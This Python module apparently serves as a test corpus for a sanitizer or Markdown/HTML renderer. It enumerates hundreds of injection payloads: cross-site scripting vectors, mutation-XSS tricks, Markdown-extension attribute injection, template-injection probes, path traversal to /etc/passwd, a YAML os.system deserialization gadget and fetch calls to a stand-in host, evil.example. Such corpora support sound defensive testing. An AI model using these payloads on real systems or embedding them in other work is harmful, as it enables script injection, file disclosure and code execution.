"""Texts that do something where they are taken for HTML, Markdown, a template, a script or an address.

Each is made of a trigger, which opens a dialog or asks another host, in a form that some reader might take for its own.
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "https://evil.example/x"
RUN = "alert(1)"
ASK = f"fetch('{HOST}')"

_ELEMENTS = (
    "<script>{run}</script>", "<script src={host}></script>", "<SCRIPT\n>{run}</SCRIPT\n>", "<script/x>{run}</script >",
    "<img src=x onerror={run}>", "<img/src=x/onerror={run}>", "<img src={host}.png>", "<img srcset='{host}.png 2x'>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><a xlink:href='javascript:{run}'><text y=9>k</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><image href='{host}.png'/></svg>", "<svg><use href='{host}#a'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<math href='javascript:{run}'>k</math>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe src={host}></iframe>",
    "<object data='{host}'></object>", "<object data='javascript:{run}'></object>", "<embed src='{host}'>", "<embed src='javascript:{run}'>",
    "<video src={host}.mp4 onerror={run} autoplay></video>", "<video poster={host}.png></video>", "<audio src={host}.mp3 autoplay></audio>",
    "<video><source onerror={run} src={host}.mp4></video>", "<track src={host}.vtt>", "<body onload={run}>", "<body background={host}.png>",
    "<details open ontoggle={run}>k</details>", "<marquee onstart={run}>k</marquee>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>", "<textarea autofocus onfocus={run}></textarea>", "<button autofocus onfocus={run}>k</button>",
    "<form action='javascript:{run}'><button>k</button></form>", "<button formaction='javascript:{run}'>k</button>", "<form action={host}><input name=k></form>",
    "<a href='javascript:{run}'>k</a>", "<a href='data:text/html,<script>{run}</script>'>k</a>", "<a href='vbscript:{run}'>k</a>",
    "<a href=' java\tscript:{run}'>k</a>", "<a href='java&#10;script:{run}'>k</a>", "<a href='&#106;avascript:{run}'>k</a>", "<a href='\x01javascript:{run}'>k</a>",
    "<a href='javascript&colon;{run}'>k</a>", "<area href='javascript:{run}' shape=default>", "<map><area href='javascript:{run}'></map>",
    "<meta http-equiv=refresh content='0;url={host}'>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<base href='{host}/'>",
    "<link rel=stylesheet href={host}.css>", "<link rel=import href={host}>", "<link rel=prefetch href={host}>", "<style>@import '{host}.css'</style>",
    "<style>*{{background:url({host}.png)}}</style>", "<p style='background:url({host}.png)'>k</p>", "<p style=\"behavior:url({host})\">k</p>",
    "<table background={host}.png><tr><td>k</table>", "<td background={host}.png>", "<p onclick={run} onmouseover={run}>k</p>",
    "<p style='animation:x' onanimationstart={run}>k</p>", "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<title><img src=x onerror={run}></title>",
    "<template><script>{run}</script></template>", "<xmp><img src=x onerror={run}></xmp>", "<plaintext><img src=x onerror={run}>", "<listing>&lt;img src=x onerror={run}></listing>",
    "<!--><img src=x onerror={run}>-->", "<!--k--!><img src=x onerror={run}>", "<![CDATA[<img src=x onerror={run}>]]>", "<?xml-stylesheet href='javascript:{run}'?>",
    "<!DOCTYPE k [<!ENTITY k SYSTEM '{host}'>]>&k;", "<svg><style>&lt;img src=x onerror={run}></style></svg>", "<frameset onload={run}>", "<portal src={host}>",
    "<isindex action='javascript:{run}'>", "<keygen autofocus onfocus={run}>", "<applet code={host}>", "<bgsound src={host}.mp3>", "<layer src={host}>",
    "<dialog open onclose={run}>k</dialog>", "<div contenteditable autofocus onfocus={run}>k</div>", "<image src=x onerror={run}>", "<custom-k onclick={run} tabindex=1 autofocus onfocus={run}>k</custom-k>",
    "<a href={host} ping={host}>k</a>", "<img src=x usemap=#k><map name=k><area href=javascript:{run}></map>", "<p id=page-facts>k</p>", "<form id=helpcenter><input name=state></form>",
    "<script type=module>import('{host}')</script>", "<script type=application/json id=page-facts>{{\"product\":\"k\"}}</script>",
)  # fmt: skip
_MARKDOWN = (
    "[k](javascript:{run})", "[k](<javascript:{run}>)", "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "![k]({host}.png)", "![k](javascript:{run})",
    "<javascript:{run}>", "[k]: javascript:{run}\n\n[k]", "[k]: {host}.png\n\n![k][k]", "[k][k]\n\n[k]: javascript:{run} 'k'", "[k\n]: javascript:{run}", "[^k]: <img src=x onerror={run}>\n\nk[^k]",
    "*[k]: <img src=x onerror={run}>", "k\n: <img src=x onerror={run}>", "`k`{{ onclick={run} }}", "**k**{{ onclick={run} }}", "# k {{ onclick={run} onmouseover={run} }}", "[k](k.html){{ onclick={run} }}",
    "![k](k.png){{ onerror={run} }}", "{{: onclick={run} }}", "```{{ .html onclick={run} }}\nk\n```", "``` html\n<img src=x onerror={run}>\n```\n<img src=x onerror={run}>", "~~~\n~~~\n<img src=x onerror={run}>",
    "/// html | script\n{run}\n///", "/// html | iframe[src='{host}']\n///", "/// html | div[onclick={run}]\nk\n///", "/// details | k\n    attrs: {{onclick: {run}}}\nk\n///", "/// versions | 24.3\n<script>{run}</script>\n///",
    "!!! note \"<img src=x onerror={run}>\"\n    k", "??? note\n    <img src=x onerror={run}>", "=== \"<img src=x onerror={run}>\"\n    k", "--8<-- \"/etc/passwd\"", "--8<--\n/etc/passwd\n--8<--", ":material-x:{{ onclick={run} }}",
    "$$\\href{{javascript:{run}}}{{k}}$$", "| k |\n| --- |\n| <img src=x onerror={run}> |", "- <img src=x onerror={run}>\n    <script>{run}</script>", "> <img src=x onerror={run}>", "1. k\n\n        <script>{run}</script>",
    "<div markdown=1>\n<script>{run}</script>\n</div>", "<div markdown>\n[k](javascript:{run})\n</div>", "<b onclick={run}>**k**</b>", "\\<img src=x onerror={run}>", "\\\\<img src=x onerror={run}>", "\\[k](javascript:{run})",
    "&lt;img src=x onerror={run}&gt;", "&#60;img src=x onerror={run}&#62;", "&amp;#60;img src=x onerror={run}>", "<http://a.example/\"onclick={run}>", "http://a.example/\"onclick={run}//", "k@a.example\"onclick={run}",
    "++k++{{ onclick={run} }}", "==k=={{ onclick={run} }}", "{{++<img src=x onerror={run}>++}}", "^^k^^", "<!-- {{{{ k }}}} --><img src=x onerror={run}>", "    <script>{run}</script>", "\t<script>{run}</script>",
    "k\r<script>{run}</script>\rk", "k\x0b<script>{run}</script>", "k\x0c<img src=x onerror={run}>", "k\x1c<img src=x onerror={run}>", "k\x85<img src=x onerror={run}>", "k\u2028<img src=x onerror={run}>", "k\u2029<script>{run}</script>",
    "\ufeff<script>{run}</script>", "\u202e<img src=x onerror={run}>", "```\r```\r<script>{run}</script>", "[k\r]: javascript:{run}", "***\n<img src=x onerror={run}>", "<k\n\nonclick={run}>", "![k][{host}.png]", "[TOC]", "[[k]]",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {run} }}}}", "{{% include '/etc/passwd' %}}", "{{{{ config.__class__.__init__.__globals__ }}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{% raw %}}<script>{run}</script>{{% endraw %}}", "{{# k #}}<script>{run}</script>",
    "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{{{k|safe}}}}<script>{run}</script>", "{{% set x = 1 %}}{{{{ x }}}}", "@@{run}@@",
)  # fmt: skip
_SCRIPTS = (
    "</script><script>{run}</script>", "</SCRIPT ><img src=x onerror={run}>", "\"-{run}-\"", "'-{run}-'", "\\\"-{run}//", "';{run}//", "\");{run}//", "\u2028{run}//", "\n{run}\n//", "<!--<script>{run}", "]]>{run}//",
    "\\u003cscript>{run}</script>", "`${{{run}}}`", "*/{run}/*", "__proto__", "constructor", "\\x3cscript\\x3e{run}", "\"}}];{run};[{{\"k\":\"",
)  # fmt: skip
_QUOTED = (
    "\"onerror={run} k=\"", "'onerror={run} k='", "\" onmouseover=\"{run}", "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "\" style=\"background:url({host}.png)", "&quot; onclick=&quot;{run}", "k\" srcset=\"{host}.png 2x",
    "\"/><script>{run}</script>", "k)]({host} \"k", "k]({host}) ![k]({host}.png", "k](javascript:{run}) [k", "k){{ onclick={run} }}", "k \"k\"){{ onerror={run} }}", "k|k<img src=x onerror={run}>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}", "javascript\x00:{run}", "javascript&colon;{run}", "javascript://a.example/%0a{run}", "view-source:javascript:{run}",
    "data:text/html,<script>{run}</script>", "data:image/svg+xml,<svg onload={run}>", "vbscript:{run}", "file:///etc/passwd", "blob:{host}", "filesystem:{host}", "//evil.example/x", "\\\\evil.example\\x", "http:evil.example", "/\\evil.example/x", "https:/evil.example",
    "feed:javascript:{run}", "jar:{host}!/", "ms-msdt:/id", "page:evil", "mailto:a@b.example?body={run}", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/x", "x.html#javascript:{run}", "x.html?\"onclick={run}", "x.html'onclick={run}",
)  # fmt: skip
_YAML = (
    "!!python/object/apply:os.system ['k']", "k: &k [*k]", "---\ntitle: k", "'\n---\nhide: [navigation]", "- k\n...", "{{k: {run}}}", "? k", "%TAG ! tag:k", "template: /etc/passwd", "k # {run}", "| \n <script>{run}</script>", "yes", "null", "~",
)  # fmt: skip
_MUTATIONS = (
    "<svg></p><style><a id=\"</style><img src=x onerror={run}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>", "<noscript><style></noscript><img src=x onerror={run}>", "<a id=x><a href='javascript:{run}'>k",
    "<table><td><svg><desc><td><img src=x onerror={run}>", "<select><template><style><!--</style><img src=x onerror={run}>", "<b><p><i></b><script>{run}</script>", "<p><svg><foreignObject><p><script>{run}</script>", "<math><annotation-xml encoding=text/html><img src=x onerror={run}>",
    "<svg><title><style><img src=x onerror={run}></style>", "<pre>\n\n</pre><script>{run}</script>", "<li><pre>k\r</pre><img src=x onerror={run}>", "<ol><li>k<pre>a\r```\r<script>{run}</script></pre></ol>", "<div class=Note>Note: k<pre>a\r<script>{run}</script></pre></div>",
    "<td>[k<br>]: javascript:{run}</td>", "[k<br>]: {host}.png<br>![k<br>]", "<code>`k</code><img src=x onerror={run}>`", "<b>*</b><i>_</i><script>{run}</script>", "<a href='k.html'>[k](javascript:{run})</a>", "<a href='k.html)'>k</a>({host}.png)",
    "<b>[</b>k](javascript:{run})", "!<a href='{host}.png'>k</a>", "<sub>~</sub>{{ onclick={run} }}", "<code>k</code>{{ onclick={run} }}", "<b>k</b>{{ onclick={run} }}", "<span class=path>k</span>{{: onclick={run} }}", "<h2>k {{ onclick={run} }}</h2>",
    "<img src=i.png alt='k](javascript:{run})'>", "<img src='i.png){{ onerror={run} }}'>", "<img src=i.png alt='k' width='1\" onerror=\"{run}'>", "<p>///</p><p>/// html | script</p><p>{run}</p>", "<p>```</p><p>&lt;script>{run}&lt;/script></p>", "<pre>```\n</pre><p>&lt;script>{run}&lt;/script></p>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """All of them, each once."""
    yield from (form.format(run=ASK, host=HOST) for form in _ELEMENTS)
    for family in (_ELEMENTS, _MARKDOWN, _TEMPLATES, _SCRIPTS, _QUOTED, _ADDRESSES, _YAML, _MUTATIONS):
        yield from (form.format(run=RUN, host=HOST) for form in family)


PAYLOADS = tuple(dict.fromkeys(payloads()))
